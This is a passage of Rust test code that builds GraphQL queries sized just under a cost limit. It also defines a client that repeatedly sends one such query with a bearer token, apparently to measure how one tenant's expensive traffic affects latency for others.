    // Per item: edges + node + id, timeline (10 + 20 × 2), actions (10 + 20 × 1), events (10 + 10 × 1).
    let nested = limits.max_cost / 103;
    vec![
        ("widest-page", format!("{{ incidents(first: {wide}) {{ edges {{ cursor node {{ {fields} }} }} }} }}")),
        (
            "nested-fan-out",
            format!(
                "{{ incidents(first: {nested}) {{ edges {{ node {{ id timeline {{ kind at }} actions {{ id }} \
                 events(first: 10) {{ raw }} }} }} }} }}"
            ),
        ),
    ]
}

/// Another tenant's client sending one expensive query after another until stopped.
struct ExpensiveClient {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    task: tokio::task::JoinHandle<anyhow::Result<(u64, usize, Vec<std::time::Duration>)>>,
}

impl ExpensiveClient {
    fn start(client: reqwest::Client, url: String, token: String, query: String) -> ExpensiveClient {
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let flag = stop.clone();
        let task = tokio::spawn(async move {
            let (mut cost, mut latencies) = (0, Vec::new());
            while !flag.load(std::sync::atomic::Ordering::Relaxed) {
                let started = Instant::now();
                let body: serde_json::Value =
                    client.post(&url).bearer_auth(&token).json(&json!({ "query": query })).send().await?.json().await?;
                latencies.push(started.elapsed());
                anyhow::ensure!(body["errors"].is_null(), "the expensive query must be allowed: {body}");
                cost = body["extensions"]["cost"]["requested"].as_u64().unwrap_or_default();
            }
            Ok((cost, latencies.len(), latencies))
        });
        ExpensiveClient { stop, task }
    }

    async fn stop(self) -> anyhow::Result<(u64, usize, Vec<std::time::Duration>)> {
        self.stop.store(true, std::sync::atomic::Ordering::Relaxed);
        self.task.await?
    }
}
